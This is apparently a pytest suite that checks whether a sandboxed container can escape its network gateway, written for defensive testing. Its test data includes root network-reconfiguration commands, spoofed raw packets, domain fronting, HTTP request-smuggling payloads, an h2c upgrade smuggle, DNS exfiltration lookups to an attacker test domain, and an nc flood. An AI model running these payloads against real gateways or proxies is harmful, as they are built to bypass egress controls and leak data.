"""Attempts of a box to get past its door, root in the box included."""

from __future__ import annotations

import subprocess
from typing import TYPE_CHECKING

import pytest

from hutch.host.proc import poll_until
from tests.net.conftest import IMAGE, call, get, get_tls
from tests.net.world import GOOD, HOST, NAMES, OTHER

if TYPE_CHECKING:
    from pathlib import Path

    from hutch.runtime.box import LocalBox
    from hutch.runtime.runtime import LocalRuntime
    from tests.net.world import World

pytestmark = pytest.mark.anyio


@pytest.fixture
async def box(runtime: LocalRuntime, world: World) -> LocalBox:
    """A box that may reach good.test and nothing else."""
    box = await runtime.create(IMAGE, network=["good.test"])
    await box.start()
    assert await get(box, GOOD, "good.test") == f"{GOOD} good.test /"  # the control
    world.reset()
    return box


async def _say(box: LocalBox, text: str, port: int = 80) -> bytes:
    caller = await call(box, GOOD, port)
    await caller.send(text.encode())
    await caller.end()
    answer = await caller.receive_all()
    await caller.close()
    return answer


@pytest.mark.parametrize(
    "command",
    [
        "ip link set lo down",
        "ip addr add 198.51.100.77/24 dev lo",
        "ip addr del 192.0.2.2/32 dev lo",
        "ip route del default",
        "ip route add 198.51.100.0/24 dev lo",
        "ip link add x type dummy",
        "busybox ifconfig lo 198.51.100.77",
        "mount -t sysfs none /tmp",
        "echo 1 > /proc/sys/net/ipv4/ip_forward",
    ],
)
async def test_root_cannot_change_its_network(box: LocalBox, command: str) -> None:
    assert not (await box.run("sh", "-c", command)).ok
    assert await get(box, GOOD, "good.test") == f"{GOOD} good.test /"


async def test_raw_packets_stay_in_the_namespace(box: LocalBox, world: World, talk: Path) -> None:
    """With the source of the host, of the box, and of another peer; the control is the same packet from the host."""
    subprocess.run([talk, "raw", HOST, GOOD, "9999"], check=True, timeout=10)
    assert await poll_until(lambda: world.datagrams == [b"raw\0\0\0\0\0"], 5)
    world.reset()
    for source in (HOST, "192.0.2.2", "192.0.2.1", OTHER, "127.0.0.1"):
        for address, port in ((GOOD, "9999"), (NAMES, "53")):
            await box.run("talk", "raw", source, address, port)
    assert not (await box.run("busybox", "ping", "-c", "2", "-W", "1", GOOD)).ok
    hops = (await box.run("busybox", "traceroute", "-I", "-q", "1", "-m", "2", "-w", "1", GOOD)).text.splitlines()[1:]
    assert GOOD not in "".join(hops)
    assert not world.datagrams and not world.queries


async def test_a_server_name_does_not_vouch_for_another_host(box: LocalBox, world: World) -> None:
    """Domain fronting: TLS to an allowed name goes to that name's own server, which sees the other Host. Plain HTTP is
    read, and refused."""
    assert await get_tls(box, OTHER, "good.test", world.ca, host="other.test") == f"{GOOD} other.test /"
    assert "no rule" in await get(box, GOOD, "other.test")


@pytest.mark.parametrize(
    "request_",
    [
        "GET http://other.test/ HTTP/1.1\r\nHost: good.test\r\n\r\n",
        "GET / HTTP/1.1\r\nHost: good.test\r\nHost: other.test\r\n\r\n",
        "GET / HTTP/1.1\r\n\r\n",
        "GET / HTTP/1.1\r\nHost: good.test@other.test\r\n\r\n",
        "GET / HTTP/1.1\r\nHost: other.test/good.test\r\n\r\n",
        "GET / HTTP/1.1\r\nHost: good.test:8080\r\n\r\n",
        "GET / HTTP/1.1\r\nHost : good.test\r\n\r\n",
        "GET / HTTP/1.1\r\nHost: good.test\r\n\tother.test\r\n\r\n",
        "GET / HTTP/1.1\nHost: other.test\n\n",
        "CONNECT other.test:443 HTTP/1.1\r\nHost: good.test\r\n\r\n",
        "GET good.test HTTP/1.1\r\nHost: good.test\r\n\r\n",
        "POST / HTTP/1.1\r\nHost: good.test\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET ",
        "POST / HTTP/1.1\r\nHost: good.test\r\nTransfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n",
        "POST / HTTP/1.1\r\nHost: good.test\r\nContent-Length: 5, 6\r\n\r\nabcdef",
        "GET / HTTP/1.1\r\nHost: good.test\r\nX: " + "a" * 400_000 + "\r\n\r\n",
        "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    ],
)
async def test_ambiguous_requests_go_nowhere(box: LocalBox, world: World, request_: str) -> None:
    answer = await _say(box, request_)
    assert b" 200 " not in answer
    assert not world.requests


async def test_every_request_of_a_connection_is_judged(box: LocalBox, world: World) -> None:
    good, other = (f"GET / HTTP/1.1\r\nHost: {name}\r\n\r\n" for name in ("good.test", "other.test"))
    answer = await _say(box, good + good + other + good)
    assert answer.count(b" 200 ") == 2 and answer.count(b" 403 ") == 1
    assert len(world.requests) == 2


async def test_a_smuggled_request_is_a_body(box: LocalBox, world: World) -> None:
    inner = "GET /inner HTTP/1.1\r\nHost: other.test\r\n\r\n"
    await _say(box, f"POST / HTTP/1.1\r\nHost: good.test\r\nContent-Length: {len(inner)}\r\n\r\n{inner}")
    (seen,) = world.requests
    assert seen.startswith("POST / ") and seen.endswith(inner)


@pytest.mark.parametrize("protocols", ["h2c", "H2C", "websocket, h2c", "h2c,websocket"])
async def test_an_upgrade_to_http2_is_not_passed_on(box: LocalBox, world: World, protocols: str) -> None:
    """Alone or as one choice of several."""
    await _say(
        box,
        f"GET / HTTP/1.1\r\nHost: good.test\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: {protocols}\r\n"
        "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n",
    )
    (seen,) = world.requests
    assert "h2c" not in seen.lower()


async def test_the_gateways_own_socket_is_no_way_out(box: LocalBox, world: World) -> None:
    listening = (await box.run("sh", "-c", "cat /proc/net/tcp | awk 'NR > 1 && $4 == \"0A\" {print $2}'")).text.split()
    ports = [int(word.partition(":")[2], 16) for word in listening]
    assert ports
    for port in ports:
        caller = await call(box, "127.0.0.1", port)
        await caller.send(b"GET / HTTP/1.1\r\nHost: good.test\r\n\r\n")
        assert await caller.receive_all() == b""
        await caller.close()
    assert not world.requests


async def test_the_hosts_loopback_is_out_of_reach(box: LocalBox, world: World) -> None:
    for address in ("127.0.0.1", "192.0.2.1", "192.0.2.2", "198.51.100.1", "0.0.0.0", "::1", "::ffff:127.0.0.1"):
        assert " 200 " not in await get(box, address, "good.test"), address
    assert "no rule" in await get(box, GOOD, "host.hutch.internal")


async def test_names_beyond_the_rules_are_not_looked_up(box: LocalBox, world: World) -> None:
    """Names carry data: what no rule admits does not leave, to the gateway or to another server."""
    for server in ("", NAMES):
        assert not (await box.run("busybox", "nslookup", "secret.attacker.test", *([server] if server else []))).ok
    assert not (await box.run("busybox", "nslookup", "-type=TXT", "x.good.test.attacker.test")).ok
    await box.run("busybox", "nslookup", "-type=TXT", "good.test")
    assert {kind for _, kind in world.queries} <= {"A", "AAAA"}
    assert {name for name, _ in world.queries} <= {"good.test"}


async def test_odd_datagrams_to_the_name_service(box: LocalBox, world: World) -> None:
    for command in ("head -c 600 /dev/urandom", "printf x", "head -c 3000 /dev/zero"):
        await box.run("sh", "-c", f"{command} | talk udp 192.0.2.1 53 1")
    assert (await box.run("busybox", "nslookup", "good.test")).ok


async def test_a_stream_of_rubbish_costs_one_connection(box: LocalBox, world: World) -> None:
    caller = await call(box, GOOD, 80)
    await caller.send(b"\x16\x03\x01\x40\x00\x01" + b"\xff" * 40_000)
    await caller.receive_all()
    await caller.close()
    assert await get(box, GOOD, "good.test") == f"{GOOD} good.test /"
    reasons = [refusal.reason for refusal in await box.network.log()]
    assert "only names are allowed, and this is neither TLS nor HTTP" in reasons


async def test_a_flood_is_logged_within_bounds(box: LocalBox, world: World) -> None:
    await box.run("sh", "-c", f"for i in $(seq 300); do echo GET | nc -w 1 {OTHER} 7 & done; wait", timeout=40)
    refusals = await box.network.log()
    assert 10 < len(refusals) <= 300
    assert await get(box, GOOD, "good.test") == f"{GOOD} good.test /"
